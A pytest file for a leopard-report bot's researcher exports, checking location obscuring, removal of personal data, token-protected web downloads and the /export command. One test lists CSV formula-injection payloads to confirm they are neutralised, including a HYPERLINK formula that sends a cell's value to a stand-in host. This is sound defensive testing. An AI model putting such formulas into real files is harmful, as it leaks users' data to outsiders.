"""The researchers' export: rows per level, CSV/GeoJSON/Darwin Core Archive, /export, the web route."""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
import zipfile
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from aiohttp.test_utils import TestClient, TestServer
from dwca.read import DwCAReader
from telegram.ext import CommandHandler, filters

import tests.kit.app
from bot import locations, report
from bot.compensation import default_plan
from bot.config import Config
from bot.export import (
    COLUMNS,
    DWC,
    OCCURRENCE_ROW_TYPE,
    Level,
    build_export,
    cell_uncertainty_m,
    export_rows,
    export_token,
    to_csv,
    to_dwca,
    to_geojson,
)
from bot.fake_telegram import FakeTelegram
from bot.geo import obscure
from bot.records import Reporter, ReportRow, Review
from bot.report import Kind
from bot.store import Store
from bot.web.settings import WebSettings
from handlers import export
from handlers.common import Services
from handlers.web import make_web_app
from tests.kit import STAFF_ADMIN, STAFF_GROUP, Person
from tests.test_moderation import card_for, press, sighting

TZ = ZoneInfo("Asia/Shanghai")
SEEN = datetime(2026, 3, 1, 14, 5, 33, tzinfo=TZ)
CELL = 0.2
SECRET = "test-secret-0123456789abcdef"
PHONE = "13912345678"
NAMES = ("王大爷", "wangdaye", "张三", "Li Wei")


# Each report's random occurrence UUID (the store draws one per report and keeps it).
OCCURRENCE = {n: str(uuid.uuid4()) for n in range(1, 10)}


def row(n: int, kind: str, details: dict[str, Any], **changes: Any) -> ReportRow:
    values: dict[str, Any] = {
        "id": n, "ref_code": f"HS-2026-{n:05d}", "kind": kind, "status": "verified",
        "reporter_id": 880000 + n, "reporter_name": "王大爷", "reporter_username": "wangdaye",
        "language": "zh_Hans", "latitude": 37.329613, "longitude": 113.570247, "accuracy_m": 20.0,
        "location_source": "telegram", "input_datum": "wgs84", "place_name": None,
        "observed_at": SEEN + timedelta(hours=n), "submitted_at": SEEN + timedelta(hours=n, minutes=5),
        "details": details, "notify_reporter": True, "incident_id": 10 + n, "occurrence_id": OCCURRENCE[n],
    }
    values.update(changes)
    return ReportRow(**values)


REPORTS = [
    row(1, "sighting", {"leopards": 2, "cubs": "yes", "behaviour": "call Li Wei 13912345678",
                        "distance": "lt50"}),
    row(2, "signs", {"sign": "camera_trap", "note": "my phone 13912345678"}, latitude=37.46117,
        longitude=113.38452, accuracy_m=None, location_source="typed", input_datum="gcj02"),
    row(3, "livestock", {"animal": "sheep", "killed": 2, "injured": 1, "penned": "penned",
                         "owner_name": "张三", "phone": PHONE}, place_name="松烟镇 Songyan", accuracy_m=None,
        location_source="venue"),
    row(4, "tip", {"threat": "snares", "description": "Li Wei sets snares", "follow_up": "anonymous"},
        reporter_id=None, reporter_name=None, reporter_username=None),
    row(5, "sighting", {"leopards": "not_sure", "cubs": "no", "behaviour": "resting", "distance": "gt1000"},
        reporter_name="Li Wei", latitude=37.29, longitude=113.61),
]


def all_outputs(rows: list[dict[str, Any]]) -> str:
    archive = zipfile.ZipFile(io.BytesIO(to_dwca(rows)))
    files = "".join(archive.read(name).decode("utf-8") for name in archive.namelist())
    return to_csv(rows).decode("utf-8-sig") + to_geojson(rows).decode("utf-8") + files


def test_public_rows_hold_only_the_grid_cell_and_nobody() -> None:
    rows = export_rows(REPORTS, "public", CELL, tz=TZ)
    # Random UUIDs (a code or a row id would count the reports); the poaching tip is not an occurrence.
    assert [r["occurrenceID"] for r in rows] == [OCCURRENCE[1], OCCURRENCE[2], OCCURRENCE[3], OCCURRENCE[5]]
    by_code = {r.occurrence_id: r for r in REPORTS}
    for r in rows:
        cell = obscure(by_code[r["occurrenceID"]].latitude, by_code[r["occurrenceID"]].longitude, CELL)
        assert (r["decimalLatitude"], r["decimalLongitude"]) == (cell.center_lat, cell.center_lon)
        assert r["coordinateUncertaintyInMeters"] == cell_uncertainty_m(cell)
        assert 14_000 < r["coordinateUncertaintyInMeters"] < 14_500  # half of a 0.2° cell's diagonal here
        assert len(r["eventDate"]) == 10 and r["eventDate"].startswith("2026-03-01")
        assert r["locality"] == "和顺县 Heshun" and r["county"] == "和顺县 Heshun"
        assert r["stateProvince"] == "山西省 Shanxi" and (r["country"], r["countryCode"]) == ("China", "CN")
        assert r["scientificName"] == "Panthera pardus japonensis" and r["geodeticDatum"] == "WGS84"
        assert "grid cell" in r["dataGeneralizations"]
    assert rows[0]["basisOfRecord"] == "HumanObservation" and rows[1]["basisOfRecord"] == "MachineObservation"
    assert rows[0]["individualCount"] == 2 and rows[3]["individualCount"] is None  # "not sure" is no number
    assert rows[0]["occurrenceRemarks"] == "leopard seen; cubs=yes; behaviour=other; distance=lt50"
    assert rows[2]["occurrenceRemarks"] == "livestock attacked"  # which animals, how many: not in public
    # No incident id in the public file: it would count incidents and tie reports together.
    assert json.loads(rows[0]["dynamicProperties"]) == {"reportKind": "sighting"}

    text = all_outputs(rows)
    assert "incident" not in text.lower()
    for secret in (*NAMES, PHONE, "Songyan", "松烟", "snares", "HS-2026-", "14:05", "15:05"):
        assert secret not in text
    for r in REPORTS:
        assert str(r.reporter_id) not in text
        assert f"{r.latitude}" not in text and f"{r.longitude}" not in text


def test_trusted_rows_are_exact_but_still_carry_nobody() -> None:
    rows = export_rows(REPORTS, "trusted", CELL)
    assert len(rows) == 4
    for r, source in zip(rows, [REPORTS[0], REPORTS[1], REPORTS[2], REPORTS[4]], strict=True):
        assert (r["decimalLatitude"], r["decimalLongitude"]) == (source.latitude, source.longitude)
        assert r["eventDate"] == source.observed_at.isoformat(timespec="seconds")
        assert r["eventDate"].endswith("+08:00") and r["dataGeneralizations"] is None
    assert rows[0]["eventDate"] == "2026-03-01T15:05:33+08:00"
    assert rows[0]["coordinateUncertaintyInMeters"] == 20.0
    assert rows[1]["coordinateUncertaintyInMeters"] == 1000.0  # typed, no accuracy: the documented default
    assert "converted from GCJ02 to WGS84" in rows[1]["georeferenceRemarks"]
    assert rows[2]["coordinateUncertaintyInMeters"] == 250.0 and "default" in rows[2]["georeferenceRemarks"]
    assert rows[2]["locality"].startswith("松烟镇 Songyan")
    remarks = "livestock attacked; animal=sheep; penned=penned; killed=2; injured=1"
    assert rows[2]["occurrenceRemarks"] == remarks
    text = all_outputs(rows)
    assert "37.329613" in text and "113.570247" in text
    assert json.loads(rows[0]["dynamicProperties"]) == {"incidentId": 11, "reportKind": "sighting"}
    assert [r["occurrenceID"] for r in rows] == [OCCURRENCE[1], OCCURRENCE[2], OCCURRENCE[3], OCCURRENCE[5]]
    for secret in (*NAMES, PHONE, "snares", "HS-2026-"):
        assert secret not in text
    for r in REPORTS:
        assert str(r.reporter_id) not in text


def test_csv_is_excel_friendly_utf8_with_bom_and_geojson_is_lon_lat() -> None:
    rows = export_rows(REPORTS, "public", CELL, tz=TZ)
    data = to_csv(rows)
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    parsed = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert list(parsed[0]) == list(COLUMNS) and len(parsed) == 4
    assert parsed[0]["county"] == "和顺县 Heshun" and parsed[0]["decimalLatitude"] == "37.3"
    assert to_csv([]).decode("utf-8-sig").strip() == ",".join(COLUMNS)  # an empty export still has a header

    collection = json.loads(to_geojson(rows))
    assert collection["type"] == "FeatureCollection" and len(collection["features"]) == 4
    feature = collection["features"][0]
    assert feature["geometry"] == {"type": "Point", "coordinates": [113.5, 37.3]}
    assert feature["id"] == OCCURRENCE[1] and feature["properties"]["basisOfRecord"] == "HumanObservation"
    assert "decimalLatitude" not in feature["properties"]


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            " =1+1"]


@pytest.mark.parametrize("payload", FORMULAS)
def test_spreadsheet_formulas_are_neutralised_in_csv_and_dwca(payload: str) -> None:
    """A place name (a Telegram venue title, typed by anyone) must not run as a formula in Excel."""
    rows = export_rows([row(7, "sighting", {"leopards": 1, "cubs": "no", "behaviour": "resting",
                                              "distance": "lt50"}, place_name=payload,
                            location_source="venue", longitude=-1.5)], "trusted", CELL)
    assert rows[0]["locality"].lstrip().startswith(payload.strip()[:1])  # the attack reaches the row
    cells = next(iter(csv.DictReader(io.StringIO(to_csv(rows).decode("utf-8-sig")))))
    archive = zipfile.ZipFile(io.BytesIO(to_dwca(rows)))
    lines = archive.read("occurrence.txt").decode("utf-8").splitlines()
    dwc = dict(zip(lines[0].split("\t"), lines[1].split("\t"), strict=True))
    for table in (cells, dwc):
        assert table["decimalLongitude"] == "-1.5"  # numbers stay numbers
        for name, value in table.items():
            if name != "decimalLongitude":
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
        assert table["locality"].startswith("'") and payload.strip().lstrip("\t\r") in table["locality"]


def test_darwin_core_archive_reads_back_with_dwca_reader(tmp_path: Path) -> None:
    built = build_export(REPORTS, "trusted", "dwca", CELL, tz=TZ)
    assert built.rows == 4 and built.filename.endswith(".zip") and built.content_type == "application/zip"
    path = tmp_path / built.filename
    path.write_bytes(built.data)
    with DwCAReader(str(path)) as archive:
        assert archive.descriptor.core.type == OCCURRENCE_ROW_TYPE
        assert archive.descriptor.core.terms == {DWC + c for c in COLUMNS}
        assert not archive.use_extensions
        assert "Panthera pardus japonensis" in archive.metadata.find("dataset/abstract/para").text
        core = list(archive)
        assert [r.id for r in core] == [OCCURRENCE[1], OCCURRENCE[2], OCCURRENCE[3], OCCURRENCE[5]]
        first, camera = core[0].data, core[1].data
        assert first[DWC + "occurrenceID"] == OCCURRENCE[1]
        assert first[DWC + "basisOfRecord"] == "HumanObservation"
        assert camera[DWC + "basisOfRecord"] == "MachineObservation"
        assert first[DWC + "scientificName"] == "Panthera pardus japonensis"
        assert first[DWC + "eventDate"] == "2026-03-01T15:05:33+08:00"
        assert first[DWC + "decimalLatitude"] == "37.329613"
        assert first[DWC + "decimalLongitude"] == "113.570247"
        assert first[DWC + "coordinateUncertaintyInMeters"] == "20"
        assert first[DWC + "geodeticDatum"] == "WGS84" and first[DWC + "individualCount"] == "2"
        assert first[DWC + "countryCode"] == "CN" and first[DWC + "county"] == "和顺县 Heshun"
        assert first[DWC + "stateProvince"] == "山西省 Shanxi"
        assert json.loads(first[DWC + "dynamicProperties"])["incidentId"] == 11
        assert core[3].data[DWC + "individualCount"] == ""


def test_export_tokens_differ_per_level_and_follow_the_secret() -> None:
    public, trusted = export_token(SECRET, "public"), export_token(SECRET, "trusted")
    assert public != trusted and len(public) == 32
    assert export_token(SECRET, "public") == public
    assert export_token(SECRET + "x", "public") != public


# --- the store, the web route ---------------------------------------------------------------------

NOW = datetime(2026, 3, 2, 9, 0, tzinfo=TZ)


async def submit(store: Store, user_id: int, lat: float, lon: float, observed: datetime,
                 kind: Kind = Kind.SIGHTING) -> int:
    draft = report.new_draft(kind, NOW, "zh_Hans")
    draft.update(photos_done=True, observed_at=observed.isoformat(),
                 location={"latitude": lat, "longitude": lon, "accuracy_m": 15.0, "source": "telegram"})
    draft["answers"] = {"leopards": 1, "cubs": "no", "behaviour": "walking", "distance": "lt50"}
    who = Reporter(user_id=user_id, name="王大爷", username=None, language="zh_Hans", notify=True)
    done = await store.submit_report(draft, who, [], NOW, lambda r, o: [])
    assert done.incident_id is not None
    return done.incident_id


async def verify(store: Store, incident_id: int, review: Review = Review.VERIFIED) -> None:
    assert await store.review_incident(incident_id, review, STAFF_ADMIN, "Staff", None, NOW, lambda s: [],
                                       cases=default_plan())


async def test_store_gives_verified_reports_of_open_verified_incidents_oldest_first(store: Store) -> None:
    late = await submit(store, 1, 37.33, 113.57, SEEN + timedelta(hours=5))
    early = await submit(store, 2, 37.50, 113.40, SEEN)
    pending = await submit(store, 3, 37.20, 113.70, SEEN)
    rejected = await submit(store, 4, 37.40, 113.30, SEEN)
    await verify(store, late)
    await verify(store, early)
    await verify(store, rejected, Review.REJECTED)
    # Someone else's report joins the verified incident afterwards: staff have not looked at it yet.
    assert await submit(store, 5, 37.3302, 113.5702, SEEN + timedelta(hours=5, minutes=10)) == late
    found = await store.verified_reports()
    assert [r.incident_id for r in found] == [early, late] and pending not in [r.incident_id for r in found]
    assert [r.incident_id for r in await store.verified_reports(SEEN + timedelta(hours=1))] == [late]


@pytest.fixture
async def export_client(config: Config, store: Store) -> AsyncIterator[TestClient[Any, Any]]:
    svc = Services(config=replace(config, secret_key=SECRET), store=store)
    client = TestClient(TestServer(make_web_app(svc, None, WebSettings(enabled=True, port=0))))
    await client.start_server()
    yield client
    await client.close()


async def test_web_export_needs_the_right_bearer_token(export_client: TestClient[Any, Any], store: Store,
                                                       tmp_path: Path) -> None:
    await verify(store, await submit(store, 1, 37.329613, 113.570247, SEEN))
    public, trusted = export_token(SECRET, "public"), export_token(SECRET, "trusted")

    async def get(path: str, token: str | None = None) -> tuple[int, bytes, Any]:
        headers = {"Authorization": f"Bearer {token}"} if token is not None else {}
        async with export_client.get(path, headers=headers) as response:
            return response.status, await response.read(), response.headers

    assert (await get("/export/public.csv"))[0] == 401
    assert (await get("/export/public.csv", "wrong"))[0] == 401
    assert (await get("/export/public.csv", trusted[:-1] + "A"))[0] == 401
    status, _, headers = await get("/export/trusted.csv", public)  # the public token never opens trusted
    assert status == 401 and headers["WWW-Authenticate"].startswith("Bearer")
    async with export_client.get("/export/public.csv", headers={"Authorization": public}) as response:
        assert response.status == 401  # no scheme

    status, body, headers = await get("/export/public.csv", public)
    assert status == 200 and headers["Content-Type"].startswith("text/csv")
    assert "attachment" in headers["Content-Disposition"] and headers["X-Export-Rows"] == "1"
    assert b"37.329613" not in body and "和顺县".encode() in body
    status, body, _ = await get("/export/public.geojson", trusted)  # trusted also opens public
    assert status == 200 and json.loads(body)["features"][0]["geometry"]["coordinates"] == [113.5, 37.3]
    status, body, headers = await get("/export/trusted.dwca", trusted)
    assert status == 200 and headers["Content-Type"] == "application/zip"
    (tmp_path / "t.zip").write_bytes(body)
    with DwCAReader(str(tmp_path / "t.zip")) as archive:
        assert [r.data[DWC + "decimalLatitude"] for r in archive] == ["37.329613"]
    status, body, _ = await get("/export/trusted.csv?since=2026-03-02", trusted)
    assert status == 200 and len(body.decode("utf-8-sig").strip().splitlines()) == 1  # header only
    assert (await get("/export/trusted.csv?since=yesterday", trusted))[0] == 400
    assert (await get("/export/secret.csv", trusted))[0] == 404
    assert (await get("/export/public.xlsx", trusted))[0] == 404


# --- end to end over the fake Bot API ------------------------------------------------------------


@pytest.fixture
def with_export_command(monkeypatch: pytest.MonkeyPatch) -> None:
    """Registers /export like handlers/app.py will (unless it already does)."""
    build = tests.kit.app.build_application

    def build_with_export(config: Config) -> Any:
        application = build(config)
        registered = any(isinstance(h, CommandHandler) and "export" in h.commands
                         for h in application.handlers.get(0, []))
        if not registered:
            staff_group = filters.Chat(config.telegram.moderation_chat_id) & filters.UpdateType.MESSAGE
            application.add_handler(CommandHandler("export", export.export_command, filters=staff_group))
        return application

    monkeypatch.setattr(tests.kit.app, "build_application", build_with_export)


async def test_export_command_sends_the_verified_report_as_an_archive(
    fake: FakeTelegram, running: Any, with_export_command: None, tmp_path: Path
) -> None:
    await running(languages={"staff": "en"})
    first, second = Person(fake, 701, "Zhao Li", language="en"), Person(fake, 702, "Qian Wu", language="en")
    verified = await sighting(first, photo=None)
    other = await sighting(second, 37.46, 113.39, photo=None)  # ~20 km away: its own incident
    await press(fake, STAFF_ADMIN, await card_for(fake, verified), "Verify")
    await card_for(fake, verified, contains="Verified by")
    assert "Waiting for staff" in (await card_for(fake, other))["text"]

    fake.send_text(STAFF_ADMIN, "/export public dwca", chat_id=STAFF_GROUP)
    message = await fake.wait_for_message(STAFF_GROUP, contains="Darwin Core Archive")
    assert message["caption"].startswith("📦 1 report · public")
    document = message["document"]
    assert document["file_name"].startswith("heshun-leopards-public-dwca-")
    assert document["file_name"].endswith(".zip")
    data = fake.download(document["file_id"])
    assert b"Zhao" not in data and b"701" not in data and verified.encode() not in data
    (tmp_path / "export.zip").write_bytes(data)
    with DwCAReader(str(tmp_path / "export.zip")) as archive:
        rows = list(archive)
        # One occurrence, named by its random UUID: neither its code nor a count is in the file.
        assert len(rows) == 1 and uuid.UUID(rows[0].id).version == 4
        assert rows[0].data[DWC + "decimalLatitude"] == "37.3"
        assert rows[0].data[DWC + "individualCount"] == "1"
        assert len(rows[0].data[DWC + "eventDate"]) == 10

    fake.add_member(STAFF_GROUP, first.id, "member")
    fake.send_text(first.id, "/export trusted csv", chat_id=STAFF_GROUP)  # a group member who is not staff
    await fake.wait_for_message(first.id, contains="Staff only")  # privately, never in the group
    fake.send_text(STAFF_ADMIN, "/export trusted geojson", chat_id=STAFF_GROUP)
    trusted = await fake.wait_for_message(STAFF_GROUP, contains="GeoJSON")
    features = json.loads(fake.download(trusted["document"]["file_id"]))["features"]
    assert [f["geometry"]["coordinates"] for f in features] == [[113.5702, 37.3296]]
    fake.send_text(STAFF_ADMIN, "/export everything", chat_id=STAFF_GROUP)
    await fake.wait_for_message(STAFF_GROUP, contains="/export [public|trusted]")


def test_named_places_and_points_outside_heshun_in_exports() -> None:
    """A named place has the township as locality and no coordinates (none exist) at both
    levels; a point past the margin says so in the remarks, with the county it is in."""
    from bot.geo import jinzhong_counties

    named = row(8, "sighting", {"leopards": 1}, latitude=None, longitude=None, accuracy_m=10_000.0,
                location_source="named_place", place_name="许村村", place_id="140723102220")
    zuoquan = next(c for c in jinzhong_counties() if c.name_zh == "左权县").shape.representative_point()
    outside = row(9, "sighting", {"leopards": 1}, latitude=zuoquan.y, longitude=zuoquan.x)
    for level in (Level.PUBLIC, Level.TRUSTED):
        first, second = export_rows([named, outside], level, CELL, tz=TZ)
        assert first["decimalLatitude"] is None and first["decimalLongitude"] is None
        assert first["coordinateUncertaintyInMeters"] is None
        assert first["locality"] == "松烟镇 (Songyan Town), 和顺县 Heshun"
        remark = r"outside Heshun county: in 左权县, [\d.]+ km from the border"
        assert re.search(remark, second["occurrenceRemarks"])
        geojson = json.loads(to_geojson([first, second]))
        assert geojson["features"][0]["geometry"] is None
        assert geojson["features"][1]["geometry"]["type"] == "Point"
        csv_text = to_csv([first, second]).decode("utf-8-sig")
        assert "许村" not in csv_text or level is Level.TRUSTED  # the village only for trusted readers
        # A village of 义兴镇, whose seat has a point: that point, with the township's uncertainty.
        [seat_row] = export_rows([replace(named, place_id="140723100200", place_name="东仁村")], level, CELL)
        seat = locations.gazetteer().get("yixing")
        assert seat is not None and seat.point is not None
        assert (seat_row["decimalLatitude"], seat_row["decimalLongitude"]) == seat.point
        assert seat_row["coordinateUncertaintyInMeters"] == locations.NAMED_PLACE_M
        assert seat_row["locality"].startswith("义兴镇")
        assert "township seat" in seat_row["georeferenceRemarks"]
    assert "outside Heshun" not in export_rows(REPORTS[:1], Level.TRUSTED, CELL)[0]["occurrenceRemarks"]
